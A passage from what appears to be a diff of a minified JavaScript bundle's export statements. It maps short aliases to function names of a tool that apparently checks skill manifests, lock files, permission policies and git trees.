isManifestName as Ra, gateWeakened as Ri, evaluateSchema as Rn, isVersion$1 as Ro, witnessValue as Rr, jsonLine as Rs, trustedConfigDecides as Rt, readGitSettings as S, require_packages as Sa, hashVariants as Si, fileTooLarge as Sn, wrap as So, descriptionVerb as Sr, quote as Ss, areSameSubmodules as St, folderTree as T, formatPointer as Ta, mapKeys as Ti, incomparable as Tn, defaultRenderOptions as To, fileNames as Tr, failLevels as Ts, readAll as Tt, protosByName as U, findingJson as Ua, isDay as Ui, groupOf as Un, strong as Uo, changedFormatPart as Ur, folderOf as Us, repositorySource as Ut, requireSkills as V, versionLocation as Va, deploySkill as Vi, readSchema as Vn, joinLines as Vo, adr002 as Vr, decodePath as Vs, joinKnown as Vt, skillsOfProto as W, json$1 as Wa, repositoryOptions as Wi, isAnnotation as Wn, compareFindings as Wo, createFlagChangeTest as Wr, isAtOrInside as Ws, ruleDraft as Wt, pairUnits as X, pageTitle as Xa, discover as Xi, literals as Xn, withPath as Xo, isBundled as Xr, selfAndAncestors as Xs, twoFrontmatters as Xt, shippingUnits as Y, pageText as Ya, relativePathsFrom as Yi, top as Yn, inBaseOnly as Yo, isAboutKeyword as Yr, resolve$1 as Ys, dedent as Yt, pathInHead as Z, catalogueSections as Za, filesByRoot as Zi, singleCharacter as Zn, aboutPower as Zo, isDeclaredInDetail as Zr, UnknownCommitError as Zs, twoManifests as Zt, listedTree as _, leaksHome as _a, verifyEntry as _i, lockSyntax as _n, without as _o, twoBodies as _r, plainText$1 as _s, discoverTree as _t, open as a, keyWithUnquotedColon as aa, facetValue as ai, manifestLocation as an, canonical as ao, conjunction as ar, groupBy as as, effectivePolicies as at, commitsOf$1 as b, isDigestIndex as ba, selectFiles as bi, frontmatterUnterminated as bn, formatColumns as bo, describeItem as br, clip as bs, maxTextBytes as bt, treePaths as c, formatForFile as ca, installFolders as ci, createSkillLookup as cn, fitDocument as co, spend as cr, count as cs, loadAnalysed as ct, openSides as d, lockFormatOf as da, transition as di, tomlSyntax as dn, writeText as do, effects as dr, join$1 as ds, readManifests as dt, renamePlaceholders as ea, tool as ec, isOptional as ei, versionFormat as en, lineHtml as eo, hasCodePoint as er, isWidening as es, restrictToPaths as et, defaultBranches as f, parseLock as fa, redactCredentials as fi, clientFieldUnknown as fn, findingLines as fo, isDefinedEffect as fr, list as fs, readSkill as ft, gitTree as g, duplicateKey$3 as ga, describeUnhashed as gi, policyDenied as gn, testFolderOf as go, twoBlocks as gr, pathPart as gs, digestFiles as gt, tempNameOf as h, protoLock as ha, uncoveredFiles as hi, permissionsUnreadable as hn, sampleFolderOf as ho, routerOf as hr, nothing$2 as hs, leavesBeyond as ht, runCheck as i, parseSkillMd as ia, facetTexts as ii, keywordLocation as in, isObject as io, divides as ir, groupTools as is, parseVersionTag as it, readGit as j, text$1 as ja, compareEntries$1 as ji, migrationObstacle as jn, isOutdatedEntry as jo, operationName as jr, ruleLevelValue as js, requirementOf as jt, LineEndings as k, resolvePointer as ka, coversTool as ki, describePart as kn, linksFrom as ko, nestedDefaultChange as kr, nearPath$1 as ks, matches as kt, withProgress as l, lockCommand as la, installLocation as li, lockedTargets as ln, cut$2 as lo, codeIndex as lr, identityOf$1 as ls, relatePaths as lt, removeStaleTempFiles as m, foreignHeader as ma, lockVersionChanged as mi, newSkillPermissions as mn, shellPath as mo, operationOf as mr, namePart as ms, parsedOnAccess as mt, main as n, variablesIn as na, leavesLegacyManifest as ni, markCopies as nn, differencesOf$1 as no, word as nr, unitKey as ns, statedContract as nt, pathInDirectory as o, isSecretName as oa, isSet as oi, nameLocation as on, element as oo, negation as or, memoize as os, doubtsOf as ot, isRunning as p, wordList as pa, lockContentChanged as pi, grantMalformed as pn, permissionItem as po, blockOf as pr, msg as ps, parseSkillToml as pt, summarize as q, ruleList as qa, writeOutputs as qi, kindOf$2 as qn, LineMap as qo, hasApiVersion as qr, nameOf$3 as qs, powerRules as qt, openRun as r, findCarrier as ra, semanticRequirements as ri, fallbackLocation as rn, listDifference as ro, commonMultiple as rr, unitKinds as rs, relate as rt, ruleIds as s, plainLine$1 as sa, compareDotted as si, noSkillsFound as sn, firstWithin as so, createBudget as sr, code$1 as ss, powerTexts as st, internalErrorText as t, replaceVariables as ta, isRequired$1 as ti, marketplaceSkillUnlisted as tn, formatCount as to, union as tr, pinLevels as ts, catalogueOf as tt, withReadProgress as u, dividePlainLock as ua, lockHome as ui, lockPathOf as un, text$2 as uo, parseRange as ur, isEmpty$3 as us, load as ut, readBlobs as v, sanitizePaths as va, modeVariant as vi, frontmatterMissing as vn, catalogueInNaturalOrder as vo, twoOperations as vr, sentence as vs, clientTree as vt, diskTree as w, fields as wa, defaults$1 as wi, duplicateIdentity as wn, painter as wo, facetText as wr, gateOptions as ws, memoryTree as wt, findRepository as x, parseJson as xa, createIgnoreTest as xi, fileEncoding as xn, formatEntries as xo, describeSkill as xr, code$2 as xs, readTexts as xt, commitOf as y, parseYaml as ya, algorithmNamed as yi, frontmatterSyntax as yn, inNaturalOrder as yo, changedEntries as yr, words as ys, readLinkTargets as yt, readConfig as z, manifestOf as za, changeRule as zi, lengthOf as zn, smallestCoveringVersion as zo, skillManifestV2$3 as zr, jsonText$1 as zs, analyse as zt };
+export { loadTrustedConfig as $, isDigestIndex as $a, selectFiles as $i, fileTooLarge as $n, without as $o, describeItem as $r, join$1 as $s, bySignificance as $t, removeStaleTempFiles as A, replaceVariables as Aa, encodePath as Ac, isDeclaredInDetail as Ai, versionFormat as An, pageTitle as Ao, singleCharacter as Ar, strong as As, linesOf as At, diskTree as B, isSecretName as Ba, UsageError as Bc, compareDotted as Bi, lockPathOf as Bn, isObject as Bo, createBudget as Br, connections as Bs, parseSkillToml as Bt, pathInDirectory as C, pathWithin$1 as Ca, withUsageErrors as Cc, createFlagChangeTest as Ci, powerRules as Cn, findingJson as Co, isAnnotation as Cr, versionChange as Cs, powerTexts as Ct, withReadProgress as D, builtInPlaceholders as Da, jsonText$1 as Dc, hasDefault as Di, twoManifests as Dn, ruleList as Do, kinds$2 as Dr, require_compare as Ds, coversCommands as Dt, withProgress as E, filesByRoot as Ea, jsonLine as Ec, hasApiVersion as Ei, twoFrontmatters as En, powerJson as Eo, kindOf$2 as Er, smallestCoveringVersion as Es, commandsOf as Et, commitOf as F, toolGroup as Fa, nameOf$3 as Fc, leavesLegacyManifest as Fi, manifestLocation as Fn, blocksHtml as Fo, word as Fr, compareText as Fs, loadAnalysed as Ft, LineEndings as G, lockFormatOf as Ga, redactCredentials as Gi, newUnitPermissions as Gn, cut$2 as Go, isDefinedEffect as Gr, unitKey as Gs, clientTree as Gt, diskPath as H, formatForFile as Ha, tool as Hc, installLocation as Hi, clientFieldChanged as Hn, element as Ho, codeIndex as Hr, isWidening as Hs, leavesBeyond as Ht, commitsOf$1 as I, coversCommand as Ia, relativePath$1 as Ic, semanticRequirements as Ii, nameLocation as In, lineHtml as Io, commonMultiple as Ir, inBaseOnly as Is, relatePaths as It, runGit as J, protoLock as Ja, uncoveredFiles as Ji, lockSyntax as Jn, findingLines as Jo, routerOf as Jr, groupBy as Js, readTexts as Jt, errorLine as K, parseLock as Ka, lockContentChanged as Ki, permissionsUnreadable as Kn, text$2 as Ko, blockOf as Kr, unitKinds as Ks, readLinkTargets as Kt, findRepository as L, prefixesOf as La, resolve$1 as Lc, facetTexts as Li, noSkillsFound as Ln, formatCount as Lo, divides as Lr, withPath as Ls, load as Lt, gitTree as M, findCarrier as Ma, isAtOrInside as Mc, isHarmless as Mi, markCopies as Mn, foldFilter as Mo, everything as Mr, isAtLeast as Ms, launchers as Mt, listedTree as N, compareTools as Na, isInside$2 as Nc, isOptional as Ni, fallbackLocation as Nn, kindWords$1 as No, hasCodePoint as Nr, severityRank as Ns, pairUnits as Nt, openSides as O, placeholdersIn as Oa, neutralizeCommands as Oc, isAboutKeyword as Oi, largestBump as On, maxPageBytes as Oo, top as Or, joinLines as Os, isBlocked as Ot, readBlobs as P, coversTool as Pa, join$2 as Pc, isRequired$1 as Pi, keywordLocation as Pn, catalogueKinds as Po, union as Pr, LineMap as Ps, pathInHead as Pt, trackChild as Q, parseYaml as Qa, algorithmNamed as Qi, fileEncoding as Qn, testFolderOf as Qo, changedEntries as Qr, isEmpty$3 as Qs, readAll as Qt, readGitSettings as R, parseSkillMd as Ra, selfAndAncestors as Rc, facetValue as Ri, createSkillLookup as Rn, differencesOf$1 as Ro, conjunction as Rr, aboutPower as Rs, readManifests as Rt, open as S, writeOutputs as Sa, statUserPath as Sc, changedFormatPart as Si, byId as Sn, writeMarkdown as So, groupOf as Sr, missingVersion as Ss, doubtsOf as St, treePaths as T, discover as Ta, escapeInvisible as Tc, hasAllowedTools as Ti, dedent as Tn, powerChangeJson as To, bottom as Tr, isVersion$1 as Ts, allowanceOf as Tt, lstatSafely as U, lockCommand as Ua, lockHome as Ui, grantMalformed as Un, firstWithin as Uo, parseRange as Ur, listedReaches as Us, digestFiles as Ut, folderTree as V, plainLine$1 as Va, releaseTag as Vc, installFolders as Vi, tomlSyntax as Vn, canonical as Vo, spend as Vr, entryKinds as Vs, parsedOnAccess as Vt, readFile as W, dividePlainLock as Wa, transition as Wi, newSkillPermissions as Wn, fitDocument as Wo, effects as Wr, pinLevels as Ws, discoverTree as Wt, killChildren as X, leaksHome as Xa, verifyEntry as Xi, frontmatterSyntax as Xn, shellPath as Xo, twoBodies as Xr, code$1 as Xs, blobId as Xt, splitNulTerminated as Y, duplicateKey$3 as Ya, describeUnhashed as Yi, frontmatterMissing as Yn, permissionItem as Yo, twoBlocks as Yr, memoize as Ys, areSameSubmodules as Yt, killGroup as Z, sanitizePaths as Za, modeVariant as Zi, frontmatterUnterminated as Zn, sampleFolderOf as Zo, twoOperations as Zr, count as Zs, memoryTree as Zt, newPlace as _, isDay as _a, nearPath$1 as _c, witnessValue as _i, joinKnown as _n, haveSameContent as _o, evaluateSchema as _r, plainFindings as _s, statedContract as _t, mentionInterrupted as a, noConfigFiles as aa, plainText$1 as ac, itemName as ai, requirementOf as an, get as ao, remarkNotes as ar, textColumns as as, compareEntries as at, stateFolder as b, renderOptions as ba, didYouMean as bc, adr002 as bi, ruleDraft as bn, unreadSubmodules as bo, readSchema as br, sortNaturally as bs, parseVersionTag as bt, endEarlierRun as c, coversEntry as ca, clip as cc, nestedDefaultChange as ci, skillRemoved as cn, resolvePointer as co, describePart as cr, unitName as cs, withProto as ct, runningError as d, subjectOf$1 as da, truncate as dc, pathTransition as di, findingSettings as dn, toJson as do, migratedBlock as dr, isNamedByNext as ds, bumpOf as dt, createIgnoreTest as ea, list as ec, describeSkill as ei, keyLocation as en, parseJson as eo, fileUnreadable as er, catalogueInNaturalOrder as es, completeTree as et, takeBack as f, gateWeakened as fa, gateOptions as fc, semanticNote as fi, levelOf as fn, matcher as fo, applyEdits as fr, ofPower as fs, shippingUnits as ft, journalPlace as g, worklogSkill as ga, scopes as gc, valueTransition as gi, analyseAll as gn, filesDiffer as go, keyTypo as gr, linksFrom as gs, catalogueOf as gt, removeEmptyFolder as h, deploySkill as ha, policyKeyNames as hc, valueOrNone as hi, analyse as hn, contentHash as ho, planModuleText as hr, plainLine$2 as hs, restrictToPaths as ht, runCheck as i, mapKeys as ia, pathPart as ic, fileNames as ii, powerSeverity as in, formatPointer as io, describePower as ir, wrap as is, unitPaths as it, tempNameOf as j, variablesIn as ja, folderOf as jc, isDeclaredInDetailOnBothSides as ji, marketplaceSkillUnlisted as jn, catalogueSections as jo, complement as jr, compareFindings as js, policyOf as jt, defaultBranches as k, renamePlaceholders as ka, decodePath as kc, isBundled as ki, maxBump as kn, pageText as ko, literals as kr, line as ks, isListed as kt, findRemains as l, levels$1 as la, code$2 as lc, newName as li, toFindings as ln, source as lo, dialects as lr, permissionClause as ls, check$1 as lt, idAt as m, isOffByDefault as ma, isLowerLevel as mc, valueChange as mi, noComparison as mn, wordList as mo, moduleText as mr, powerWords as ms, withCommonIgnores as mt, main as n, previousSkillsByRoot as na, namePart as nc, entrypointName as ni, metadataChanged as nn, asWritten as no, incomparable as nr, formatColumns as ns, ignoredSentences as nt, placeOf as o, unlimitedPolicy as oa, sentence as oc, keywordTransition as oi, originInFrontmatter as on, items as oo, describeBase as or, painter as os, protosByName as ot, findObstacle as p, changeRule as pa, failLevels as pc, transitionSuffix as pi, trustedConfigDecides as pn, pathGlob as po, editsOverlap as pr, unitPermissions as ps, versionTuple as pt, readGit as q, foreignHeader as qa, lockVersionChanged as qi, policyDenied as qn, writeText as qo, operationOf as qr, groupTools as qs, maxTextBytes as qt, openRun as r, defaults$1 as ra, nothing$2 as rc, facetText as ri, matches as rn, fields as ro, blockSyntax as rr, formatEntries as rs, requireSkills as rt, requireOwnUpdate as s, compareEntries$1 as sa, words as sc, names$1 as si, skillRenamed as sn, parsePointer as so, describeManifest as sr, defaultRenderOptions as ss, skillsOfProto as st, internalErrorText as t, hashVariants as ta, msg as tc, descriptionVerb as ti, settingLocation as tn, require_packages as to, duplicateIdentity as tr, inNaturalOrder as ts, readConfig as tt, removeEmptiedFolders as u, acceptanceKey as ua, quote as uc, operationName as ui, redactorFor as un, text$1 as uo, migrationObstacle as ur, permissionRows$2 as us, summarize as ut, oldPlace as v, repositoryOptions as va, globalOptions as vc, skillManifestV2$3 as vi, nothingKnown as vn, isManifestName as vo, lengthOf as vr, isOutdatedEntry as vs, grantedPowers as vt, ruleIds as w, relativePathsFrom as wa, makeInert as wc, formatVersionKey as wi, treeRules as wn, json$1 as wo, isSelfContained as wr, declaredBump as ws, declaredPowers as wt, ownProcess as x, outputsOf$1 as xa, readUserPath as xc, baseDirectoryOf as xi, sourceOf as xn, versionLocation as xo, withoutReferences as xr, isChanged as xs, effectivePolicies as xt, ownerPlace as y, readOutputSettings as ya, ruleLevelValue as yc, skillTomlContract as yi, repositorySource as yn, manifestOf as yo, membersOf as yr, compareNatural as ys, relate as yt, remoteUrl as z, keyWithUnquotedColon as za, UnknownCommitError as zc, isSet as zi, lockedTargets as zn, listDifference as zo, negation as zr, aboutUnit as zs, readSkill as zt };
